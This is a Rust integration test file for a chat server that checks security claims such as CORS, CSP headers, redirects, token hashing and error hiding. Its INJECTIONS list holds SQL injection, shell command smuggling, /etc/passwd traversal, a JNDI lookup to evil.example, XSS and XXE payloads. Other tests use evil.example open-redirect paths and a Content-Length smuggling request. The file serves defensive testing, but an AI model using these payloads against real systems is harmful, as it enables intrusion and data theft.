//! Claims of `docs/security.md` about the server that no other test shows.

use std::{
    fs::{self, File},
    process::{Command, Stdio},
};

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use form_urlencoded::Serializer;
use reqwest::{Method, Response, StatusCode, header};
use serde_json::json;
use teahouse::{
    domain::{CommandId, MessagesPage, Role, UserKind},
    protocol::{ErrorCode, Problem, SessionCreated, SessionList},
    server::Config,
};
use tempfile::TempDir;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

use super::support::{
    Closed, Database, PASSWORD, PROGRAM, RawClient, TestClient, TestProcess, TestServer, register_user, sign_in,
    with_timeout,
};

/// Texts that another program could execute: SQL, templates, shell commands, format strings, markup.
const INJECTIONS: [&str; 12] = [
    "'); DROP TABLE users; --",
    "\" OR 1=1 --",
    "x' UNION SELECT password FROM users WHERE '1'='1",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "$(reboot) `reboot` ; reboot | reboot && reboot",
    "%s %n %x %99999d {} {0} {:?}",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "*)(uid=*))(|(uid=*",
    "{\"type\":\"ack\",\"__proto__\":{\"role\":\"owner\"}}",
];

async fn get(server: &TestServer, path: &str, token: &str) -> Response {
    server.http(Method::GET, path).bearer_auth(token).send().await.expect("a response")
}

/// Sends exactly these bytes and returns the head of the response.
async fn head(server: &TestServer, request: &str) -> String {
    let mut stream = TcpStream::connect(server.address).await.expect("a connection");
    stream.write_all(request.as_bytes()).await.expect("an open stream");
    let mut response = Vec::new();
    let reading = async {
        while !response.ends_with(b"\r\n\r\n") {
            response.push(stream.read_u8().await.expect("a head"));
        }
    };
    with_timeout("a response", reading).await;
    String::from_utf8(response).expect("ASCII")
}

/// Registers an owner, whoever owned the server before.
async fn owner(server: &TestServer, nickname: &str) -> SessionCreated {
    register_user(server, nickname).await;
    server.admin(&["promote", nickname, "owner"]).await;
    sign_in(server, nickname, PASSWORD).await.expect("a session")
}

#[tokio::test]
async fn code_in_messages_stays_text() {
    let server = TestServer::start_with_pages().await;
    let mut ming = TestClient::guest(&server, "'); DROP TABLE users; --").await;
    let mut ling = TestClient::guest(&server, "阿玲").await;
    let mut seqs = Vec::new();
    for code in INJECTIONS {
        ming.send_message(code).await;
        let event = ling.expect_event(code).await;
        assert_eq!(event.author, ming.user());
        seqs.push(event.seq);
    }
    let page: MessagesPage =
        get(&server, "/api/conversations/lobby/messages", ling.token()).await.json().await.expect("messages");
    let bodies: Vec<_> = page.messages.iter().map(|message| message.body.as_str()).collect();
    assert_eq!(bodies, INJECTIONS);
    assert_eq!(ling.open_direct("'); DROP TABLE users; --").await.last_seq.0, 0);
    let document = get(&server, "/talk/lobby", ling.token()).await.text().await.expect("a page");
    for markup in ["<svg onload", "<script>alert", "<!ENTITY"] {
        assert!(!document.contains(markup), "{markup}");
    }
    assert_eq!(
        (server.stored_counts().users, server.stored_counts().events),
        (2, INJECTIONS.len().try_into().expect("a small number"))
    );
}

#[tokio::test]
async fn input_is_decoded_exactly_once() {
    let server = TestServer::start_with_pages().await;
    let ming = TestClient::guest(&server, "小明").await;
    let mut ling = TestClient::guest(&server, "阿玲").await;
    let typed = "%3Cb%3E &lt;i&gt; %2541 \\u0041 + %00";
    let form = CommandId::generate().to_string();
    let body = Serializer::new(String::new()).append_pair("form", &form).append_pair("body", typed).finish();
    let request = server.http(Method::POST, "/talk/lobby").bearer_auth(ming.token());
    let request = request.header(header::CONTENT_TYPE, "application/x-www-form-urlencoded").body(body);
    assert_eq!(request.send().await.expect("a response").status(), StatusCode::SEE_OTHER);
    ling.expect_event(typed).await;
    for (path, status) in [("%6cobby", StatusCode::OK), ("%256cobby", StatusCode::NOT_FOUND)] {
        let path = format!("/api/conversations/{path}/messages");
        assert_eq!(get(&server, &path, ming.token()).await.status(), status, "{path}");
    }
}

#[tokio::test]
async fn answers_are_not_shared_with_other_origins() {
    let friend = "https://friend.example";
    let server = TestServer::start_with(|config| config.allow_origin = vec![friend.to_owned()]).await;
    for origin in [friend, "https://evil.example", "null"] {
        for (method, path) in [
            (Method::GET, "/api/me"),
            (Method::OPTIONS, "/api/me"),
            (Method::OPTIONS, "/api/session"),
            (Method::POST, "/api/session"),
            (Method::GET, "/healthz"),
            (Method::GET, "/no/page"),
        ] {
            let request = server.http(method.clone(), path).header("origin", origin);
            let response = request.header("access-control-request-method", "PUT").send().await.expect("a response");
            let shared = response.headers().keys().find(|name| name.as_str().starts_with("access-control"));
            assert_eq!(shared, None, "{method} {path} for {origin}");
        }
    }
}

#[tokio::test]
async fn pages_have_a_strict_policy_and_are_not_cached() {
    let server = TestServer::start_with_pages().await;
    let ming = TestClient::guest(&server, "小明").await;
    for path in ["/", "/talk/lobby", "/talk/nowhere", "/admin", "/admin/invites", "/no/page"] {
        let response = get(&server, path, ming.token()).await;
        let header = |name: &str| response.headers()[name].to_str().expect("ASCII").to_owned();
        let policy = header("content-security-policy");
        for nothing in ["default-src", "object-src", "base-uri", "frame-ancestors"] {
            assert!(policy.contains(&format!("{nothing} 'none'")), "{path}: {policy}");
        }
        assert!(policy.contains("connect-src 'self'") && policy.contains("form-action 'self'"), "{path}: {policy}");
        assert!(!policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'"), "{path}: {policy}");
        assert_eq!(header("cache-control"), "no-store", "{path}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
        assert_eq!(header("x-frame-options"), "DENY", "{path}");
    }
}

#[tokio::test]
async fn reading_changes_nothing() {
    let server = TestServer::start_with_pages().await;
    let ming = TestClient::guest(&server, "小明").await;
    let link = server.admin(&["invite", "--uses", "1"]).await;
    let (_, invite) = link.trim().rsplit_once("?invite=").expect(&link);
    let before = (server.stored_counts(), server.count("sessions"));
    let sign_in_path = format!("/?invite={invite}&nickname=Carol&password=correct%20horse");
    for path in [
        "/",
        &sign_in_path,
        "/talk/lobby?body=hello&form=0192f7a0-0000-7000-8000-000000000001",
        "/admin/users/00000000-0000-0000-0000-000000000000?action=ban",
        "/admin/invites?minutes=1",
        "/api/session?nickname=Carol",
        "/api/me/password?password=correct%20horse",
        "/api/invites?minutes=1",
        "/api/conversations/lobby/messages",
        "/Carol",
        "/ws",
    ] {
        for method in [Method::GET, Method::HEAD] {
            server.http(method, path).bearer_auth(ming.token()).send().await.expect("a response");
            server.http(Method::GET, path).send().await.expect("a response");
        }
    }
    assert_eq!((server.stored_counts(), server.count("sessions")), before);
    assert_eq!(server.count("invites WHERE uses > 0"), 0);
}

#[tokio::test]
async fn redirects_never_leave_the_host() {
    let server = TestServer::start_with_pages().await;
    let ming = TestClient::guest(&server, "小明").await;
    let foreign_url = "//evil.example/";
    let form = CommandId::generate().to_string();
    let mut redirects = 0;
    for path in [
        "/talk/lobby",
        "//evil.example/talk/lobby",
        "/talk//evil.example",
        "/talk/%2F%2Fevil.example",
        "/admin//evil.example",
    ] {
        for fields in [
            &[("form", form.as_str()), ("body", "hello")][..],
            &[("nickname", foreign_url), ("invite", "https://evil.example/"), ("password", foreign_url)],
            &[("nickname", "小明")],
        ] {
            let body = Serializer::new(String::new()).extend_pairs(fields).finish();
            for token in [Some(ming.token()), None] {
                let request = server.http(Method::POST, path).body(body.clone());
                let request = token.into_iter().fold(request, |request, token| request.bearer_auth(token));
                let response = request.send().await.expect("a response");
                let Some(location) = response.headers().get(header::LOCATION) else { continue };
                let location = location.to_str().expect("ASCII");
                let is_own = location.starts_with('/') && !location.starts_with("//") && !location.starts_with("/\\");
                assert!(is_own, "{path} {fields:?}: {location}");
                redirects += 1;
            }
        }
    }
    assert!(redirects >= 2, "{redirects}");
}

#[tokio::test]
async fn a_token_in_a_url_is_ignored() {
    let server = TestServer::start_with_pages().await;
    let ming = TestClient::guest(&server, "小明").await;
    for name in ["token", "session", "access_token", "teahouse_session", "authorization"] {
        let query = format!("{name}={}", ming.token());
        let response = server.http(Method::GET, &format!("/api/me?{query}")).send().await.expect("a response");
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{name}");
        let mut raw = RawClient::connect(&server, &format!("/ws?{query}")).await;
        raw.send_json(&json!({ "type": "hello", "protocol": 1 })).await;
        assert_eq!(raw.closed().await, Closed::Code(4401), "{name}");
    }
}

/// Reads all files of the data folder, and the whole database if that is elsewhere.
fn stored_bytes(config: &Config) -> Vec<u8> {
    let files = fs::read_dir(&config.data).expect("a folder").map(|file| file.expect("a file").path());
    let files = files.filter(|path| path.is_file()).flat_map(|path| fs::read(path).expect("a file"));
    files.chain(Database::of(&config.data).dump().into_bytes()).collect()
}

fn contains_text(bytes: &[u8], text: &str) -> bool {
    bytes.windows(text.len()).any(|window| window == text.as_bytes())
}

#[tokio::test]
async fn tokens_are_256_random_bits_and_only_hashes_are_stored() {
    let server = TestServer::start().await;
    let (mut ming, first) = register_user(&server, "小明").await;
    let mut tokens = vec![first];
    for _ in 0..8 {
        tokens.push(sign_in(&server, "小明", PASSWORD).await.expect("a session").token);
    }
    let link = server.admin(&["invite"]).await;
    tokens.push(link.trim().rsplit_once("?invite=").expect(&link).1.to_owned());
    ming.send_message("what is kept as it was said").await;

    let stored = stored_bytes(&server.config());
    assert!(
        contains_text(&stored, "what is kept as it was said"),
        "the message is not in the files, so the search does not work"
    );
    let mut bit_counts = [0_u32; 256];
    for token in &tokens {
        let bits = URL_SAFE_NO_PAD.decode(token).expect("base64url");
        assert_eq!(bits.len(), 32, "{token}");
        for (index, count) in bit_counts.iter_mut().enumerate() {
            *count += u32::from(bits[index / 8] >> (index % 8) & 1);
        }
        assert!(!contains_text(&stored, token), "a token is stored in plain text");
    }
    // A random bit is the same in all of ten tokens with a probability of 1 in 512.
    let constant_bits = bit_counts.iter().filter(|count| [0, 10].contains(*count)).count();
    assert!(constant_bits < 16, "{constant_bits} bits are the same in all tokens");
    assert!(!contains_text(&stored, PASSWORD), "a password is stored in plain text");
}

#[tokio::test]
async fn a_new_server_has_no_account() {
    let server = TestServer::start().await;
    assert_eq!((server.stored_counts().users, server.count("sessions")), (0, 0));
    // Nobody can sign in as the server's own user.
    assert_eq!(server.count("users WHERE nickname_key IS NOT NULL OR password LIKE '$%'"), 0);
    for name in ["Teahouse", "茶馆", "admin", "root", "owner"] {
        for password in ["", "admin", "password", "teahouse", "changeme"] {
            let refused = sign_in(&server, name, password).await.expect_err(name);
            assert!([ErrorCode::WrongPassword, ErrorCode::RateLimited].contains(&refused.code), "{name}: {refused:?}");
        }
    }
}

#[tokio::test]
async fn lists_contain_no_tokens_and_no_addresses() {
    let server = TestServer::start().await;
    let owner = owner(&server, "老板").await;
    let guest = TestClient::guest(&server, "阿玲").await;
    let request = server.http(Method::POST, "/api/invites").bearer_auth(&owner.token).json(&json!({}));
    let new_invite: serde_json::Value = request.send().await.expect("a response").json().await.expect("an invite");
    let invite = new_invite["token"].as_str().expect("a token");
    server.admin(&["ban", "阿玲"]).await;
    for path in [
        "/api/me",
        "/api/sessions",
        "/api/invites",
        "/api/sanctions",
        "/api/audit",
        "/api/conversations",
        "/api/conversations/lobby/messages",
    ] {
        let response = get(&server, path, &owner.token).await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let text = response.text().await.expect("a list");
        for secret in [&owner.token, guest.token(), invite, "127.0.0.1", "argon2"] {
            assert!(!text.contains(secret), "{secret} in {path}: {text}");
        }
    }
}

#[tokio::test]
async fn unknown_fields_grant_nothing() {
    let server = TestServer::start().await;
    let body = json!({
        "nickname": "Mallory", "role": "owner", "kind": "registered", "registered": true,
        "id": "00000000-0000-0000-0000-000000000000", "me": { "role": "owner" },
    });
    let response = server.http(Method::POST, "/api/session").json(&body).send().await.expect("a response");
    let created: SessionCreated = response.json().await.expect("a session");
    assert_eq!((created.me.role, created.me.kind), (Role::Member, UserKind::Guest));
    assert!(!created.me.id.as_uuid().is_nil());
    let mut hello = body.clone();
    hello["nickname"] = json!("Trudy");
    hello["type"] = json!("hello");
    hello["protocol"] = json!(1);
    let welcome = TestClient::with_hello(server.address, &hello).await.welcome;
    assert_eq!((welcome.me.role, welcome.me.kind), (Role::Member, UserKind::Guest));
    assert!(!welcome.me.id.as_uuid().is_nil());
}

#[tokio::test]
async fn duplicate_parameters_are_unambiguous() {
    let server = TestServer::start_with_pages().await;
    let duplicate_keys = r#"{"nickname":"Alice","nickname":"Bob"}"#;
    let request = server.http(Method::POST, "/api/session").header("content-type", "application/json");
    let refused = request.body(duplicate_keys).send().await.expect("a response");
    assert_eq!(refused.status(), StatusCode::BAD_REQUEST);
    assert_eq!(refused.json::<Problem>().await.expect("a problem").code, ErrorCode::BadFrame);

    let mut ming = TestClient::guest(&server, "小明").await;
    let lobby = ming.lobby().id;
    let id = CommandId::generate();
    ming.raw
        .send_text(&format!(r#"{{"type":"send","id":"{id}","conversation":"{lobby}","body":"one","body":"two"}}"#))
        .await;
    assert_eq!(ming.expect_error().await.code, ErrorCode::BadFrame);

    let form = CommandId::generate();
    let request = server.http(Method::POST, "/talk/lobby").bearer_auth(ming.token());
    let response =
        request.body(format!("form={form}&body=the+first&body=the+second")).send().await.expect("a response");
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    ming.expect_event("the first").await;
    assert_eq!((server.stored_counts().users, server.stored_counts().events), (1, 1));
}

#[tokio::test]
async fn conflicting_content_lengths_are_refused() {
    let server = TestServer::start().await;
    let body = r#"{"nickname":"Mallory"}"#;
    let one = format!("POST /api/session HTTP/1.1\r\nHost: localhost\r\nContent-Length: {}\r\n", body.len());
    let response = head(&server, &format!("{one}Content-Length: 5\r\n\r\n{body}")).await;
    assert!(response.starts_with("HTTP/1.1 400 "), "{response}");
    assert_eq!(server.stored_counts().users, 0);
    let response = head(&server, &format!("{one}\r\n{body}")).await;
    assert!(response.starts_with("HTTP/1.1 201 "), "{response}");
}

#[tokio::test]
async fn offered_compression_is_declined() {
    let server = TestServer::start().await;
    for endpoint in ["/ws", "/visitor"] {
        let response = head(
            &server,
            &format!(
                "GET {endpoint} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                 Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
                 Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n\r\n"
            ),
        )
        .await
        .to_ascii_lowercase();
        assert!(response.starts_with("http/1.1 101 "), "{response}");
        assert!(!response.contains("sec-websocket-extensions"), "{response}");
    }
}

#[tokio::test]
async fn health_checks_reveal_nothing_else() {
    let server = TestServer::start().await;
    for (path, expected) in [("/healthz", "alive\n"), ("/readyz", "ready\n")] {
        let response = server.http(Method::GET, path).send().await.expect("a response");
        for name in ["server", "x-powered-by", "via"] {
            assert!(!response.headers().contains_key(name), "{path}: {name}");
        }
        assert_eq!(response.text().await.expect("text"), expected);
    }
    for path in ["/metrics", "/debug", "/status", "/api/debug", "/echo"] {
        assert_eq!(server.http(Method::GET, path).send().await.expect("a response").status(), StatusCode::NOT_FOUND);
    }
}

#[tokio::test]
async fn password_fields_hide_input_and_support_managers() {
    let server = TestServer::start_with_pages().await;
    let page = server.http(Method::GET, "/").send().await.expect("a response").text().await.expect("a page");
    let (_, field) = page.split_once("<input id=\"password\"").expect("a field");
    let (field, _) = field.split_once('>').expect("the end of the field");
    assert!(field.contains("type=\"password\"") && field.contains("autocomplete=\"current-password\""), "{field}");
    assert!(!page.contains("onpaste") && !field.contains("maxlength") && !field.contains("pattern"), "{field}");
}

#[tokio::test]
async fn unexpected_errors_go_to_the_log_and_not_to_the_client() {
    let data = TempDir::new().expect("a folder");
    let log = data.path().join("log");
    let mut program = Command::new(PROGRAM);
    program.env_remove("RUST_LOG").stderr(Stdio::from(File::create(&log).expect("a file")));
    let process = TestProcess::start_with_command(program, data.path()).await;
    let guest = TestClient::guest_at_address(process.address, "小明").await;
    // Causes an internal error that the server does not expect.
    Database::of(data.path()).execute("DROP TABLE reactions").expect("the damage");
    let url = format!("http://{}/api/conversations/lobby/messages", process.address);
    let response = reqwest::Client::new().get(url).bearer_auth(guest.token()).send().await.expect("a response");
    assert!(response.status().is_server_error(), "{}", response.status());
    let text = response.text().await.expect("a problem");
    for inner in ["reactions", "table", "SQL", "sqlite", "src/", "panicked"] {
        assert!(!text.contains(inner), "{inner}: {text}");
    }
    process.signal("TERM");
    assert!(process.exit().await.success());
    let log = fs::read_to_string(&log).expect("the log");
    assert!(log.lines().any(|line| line.contains("ERROR") && line.contains("reactions")), "{log}");
}

#[tokio::test]
async fn a_stored_user_agent_is_short_and_has_no_control_characters() {
    let server = TestServer::start().await;
    let name = format!("curl\t{}", "x".repeat(1_000));
    let request = server.http(Method::POST, "/api/session").header(header::USER_AGENT, name);
    let response = request.json(&json!({ "nickname": "小明" })).send().await.expect("a response");
    let created: SessionCreated = response.json().await.expect("a session");
    let list: SessionList = get(&server, "/api/sessions", &created.token).await.json().await.expect("a list");
    let agent = &list.sessions.first().expect("one").agent;
    assert!(agent.starts_with("curlx") && agent.chars().count() <= 200, "{agent:?}");
}
